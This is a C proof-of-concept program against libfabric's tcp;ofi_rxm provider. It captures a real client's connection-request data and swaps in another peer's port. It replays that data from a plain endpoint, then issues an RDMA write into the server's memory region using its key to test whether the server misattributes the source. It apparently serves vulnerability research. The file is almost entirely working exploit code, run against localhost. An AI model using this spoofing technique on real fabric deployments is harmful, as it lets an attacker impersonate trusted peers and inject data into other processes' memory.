/* Can a crafted connection request make tcp;ofi_rxm attribute a write to another peer?
   S: rxm server (FI_SOURCE), its AV holds one legit peer A (127.0.0.1:PA, which is not even running).
   Probe: a tcp MSG listener that records the CM data a real rxm client C sends when it connects.
   Attacker: a plain tcp MSG endpoint that replays that CM data with C's port replaced by A's, then
   fi_writedata's into S's region with S's key. Does S's fi_cq_readfrom name A as the source? */
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_eq.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <arpa/inet.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#define CK(x) do { long _r = (long)(x); if (_r < 0) { fprintf(stderr, "%d %s = %ld (%s)\n", __LINE__, #x, _r, fi_strerror((int)-_r)); exit(1); } } while (0)
enum { PS = 47921, PA = 47922, PC = 47923, PP = 47924 };
static const uint64_t KEY = 0x5eed0001ULL;
static struct fi_info *info_for(const char *prov, enum fi_ep_type t, int port, uint64_t caps) {
    struct fi_info *h = fi_allocinfo(), *i; char p[8]; snprintf(p, sizeof p, "%d", port);
    h->ep_attr->type = t; h->caps = caps; h->fabric_attr->prov_name = strdup(prov);
    h->domain_attr->mr_mode = FI_MR_LOCAL | FI_MR_ALLOCATED;
    CK(fi_getinfo(FI_VERSION(1, 17), "127.0.0.1", p, FI_SOURCE, h, &i)); fi_freeinfo(h); return i;
}
struct rdm { struct fid_fabric *fab; struct fid_domain *dom; struct fid_ep *ep; struct fid_av *av; struct fid_cq *cq; struct fi_info *info; };
static void rdm_open(struct rdm *r, int port, uint64_t caps) {
    struct fi_av_attr ava = {.type = FI_AV_TABLE}; struct fi_cq_attr cqa = {.format = FI_CQ_FORMAT_DATA};
    r->info = info_for("tcp;ofi_rxm", FI_EP_RDM, port, caps);
    CK(fi_fabric(r->info->fabric_attr, &r->fab, NULL)); CK(fi_domain(r->fab, r->info, &r->dom, NULL));
    CK(fi_av_open(r->dom, &ava, &r->av, NULL)); CK(fi_cq_open(r->dom, &cqa, &r->cq, NULL));
    CK(fi_endpoint(r->dom, r->info, &r->ep, NULL)); CK(fi_ep_bind(r->ep, &r->av->fid, 0));
    CK(fi_ep_bind(r->ep, &r->cq->fid, FI_TRANSMIT | FI_RECV)); CK(fi_enable(r->ep));
}
static fi_addr_t av_add(struct rdm *r, int port) {
    struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)}; fi_addr_t a;
    inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr); CK(fi_av_insert(r->av, &sa, 1, &a, 0, NULL) - 1); return a;
}
struct cm { struct fi_eq_cm_entry e; unsigned char data[256]; };
int main(void) {
    setvbuf(stdout, NULL, _IONBF, 0);
    struct rdm S, C; static char region[4096]; struct fid_mr *mr;
    rdm_open(&S, PS, FI_MSG | FI_RMA | FI_SOURCE | FI_REMOTE_WRITE | FI_RECV);
    CK(fi_mr_reg(S.dom, region, sizeof region, FI_REMOTE_WRITE, 0, KEY, 0, &mr, NULL));
    fi_addr_t a_addr = av_add(&S, PA);
    printf("S: rxm at 127.0.0.1:%d, AV: legit peer A 127.0.0.1:%d -> fi_addr %llu; caps FI_SOURCE %s\n", PS, PA,
           (unsigned long long)a_addr, S.info->caps & FI_SOURCE ? "granted" : "no");
    /* Probe: what a real rxm client puts in its connection request. */
    struct fi_info *pi = info_for("tcp", FI_EP_MSG, PP, FI_MSG | FI_RMA);
    struct fid_fabric *pf; struct fid_eq *peq; struct fid_pep *pep; struct fi_eq_attr eqa = {.wait_obj = FI_WAIT_UNSPEC};
    CK(fi_fabric(pi->fabric_attr, &pf, NULL)); CK(fi_eq_open(pf, &eqa, &peq, NULL));
    CK(fi_passive_ep(pf, pi, &pep, NULL)); CK(fi_pep_bind(pep, &peq->fid, 0)); CK(fi_listen(pep));
    rdm_open(&C, PC, FI_MSG | FI_RMA);
    fi_addr_t probe = av_add(&C, PP); static char msg[8] = "hi";
    ssize_t sret = fi_send(C.ep, msg, sizeof msg, NULL, probe, NULL); (void)sret;
    struct cm c; uint32_t ev; ssize_t n; struct fi_cq_data_entry ce;
    while ((n = fi_eq_read(peq, &ev, &c, sizeof c, 0)) == -FI_EAGAIN) fi_cq_read(C.cq, &ce, 1);
    CK(n); size_t len = n - sizeof(struct fi_eq_cm_entry);
    printf("probe: rxm client's CM data, %zu bytes:", len); for (size_t i = 0; i < len; i++) printf(" %02x", c.data[i]); printf("\n");
    unsigned char blob[256]; memcpy(blob, c.data, len); int replaced = 0;
    for (size_t i = 0; i + 1 < len; i++) {  /* the client's own listening port, in either byte order */
        uint16_t v; memcpy(&v, blob + i, 2);
        if (v == htons(PC)) { uint16_t w = htons(PA); memcpy(blob + i, &w, 2); printf("probe: port %d (network order) at byte %zu -> %d\n", PC, i, PA); replaced++; }
        else if (v == PC) { uint16_t w = PA; memcpy(blob + i, &w, 2); printf("probe: port %d (host order) at byte %zu -> %d\n", PC, i, PA); replaced++; }
    }
    fi_reject(pep, c.e.info->handle, NULL, 0);
    /* Attacker: a plain MSG endpoint, the replayed CM data with A's port, then a write with S's key. */
    struct fi_info *ai = info_for("tcp", FI_EP_MSG, 0, FI_MSG | FI_RMA); struct fid_domain *ad; struct fid_ep *aep;
    struct fid_eq *aeq; struct fid_cq *acq; struct fid_mr *amr; static char evil[32] = "written by the attacker";
    struct sockaddr_in sd = {.sin_family = AF_INET, .sin_port = htons(PS)}; inet_pton(AF_INET, "127.0.0.1", &sd.sin_addr);
    struct fi_cq_attr cqa = {.format = FI_CQ_FORMAT_DATA}; struct fid_fabric *af;
    CK(fi_fabric(ai->fabric_attr, &af, NULL)); CK(fi_eq_open(af, &eqa, &aeq, NULL)); CK(fi_domain(af, ai, &ad, NULL));
    CK(fi_endpoint(ad, ai, &aep, NULL)); CK(fi_cq_open(ad, &cqa, &acq, NULL)); CK(fi_ep_bind(aep, &aeq->fid, 0));
    CK(fi_ep_bind(aep, &acq->fid, FI_TRANSMIT | FI_RECV)); CK(fi_enable(aep));
    CK(fi_mr_reg(ad, evil, sizeof evil, FI_WRITE, 0, 0, 0, &amr, NULL));
    CK(fi_connect(aep, &sd, blob, len));
    fi_addr_t src = 12345; ssize_t r;
    for (long t = 0; (n = fi_eq_read(aeq, &ev, &c, sizeof c, 0)) == -FI_EAGAIN && t < 20000000; t++) fi_cq_readfrom(S.cq, &ce, 1, &src);
    if (n < 0) { struct fi_eq_err_entry e = {0}; fi_eq_readerr(aeq, &e, 0); printf("attacker: not connected: %s\n", fi_strerror(e.err)); return 0; }
    printf("attacker: %s to S with A's port in its CM data\n", ev == FI_CONNECTED ? "FI_CONNECTED" : "other event");
    CK(fi_writedata(aep, evil, sizeof evil, fi_mr_desc(amr), 0xBAD, 0, 0, KEY, NULL));
    for (long t = 0; (r = fi_cq_readfrom(S.cq, &ce, 1, &src)) == -FI_EAGAIN && t < 20000000; t++) fi_cq_read(acq, &ce + 0, 0);
    printf("S: cq %zd, remote_cq_data=%d data=0x%llx, source fi_addr %llu (%s); region: '%s'\n", r,
           !!(ce.flags & FI_REMOTE_CQ_DATA), (unsigned long long)ce.data, (unsigned long long)src,
           src == a_addr ? "= legit peer A: forged" : src == FI_ADDR_NOTAVAIL ? "FI_ADDR_NOTAVAIL" : "other", region);
    return 0;
}
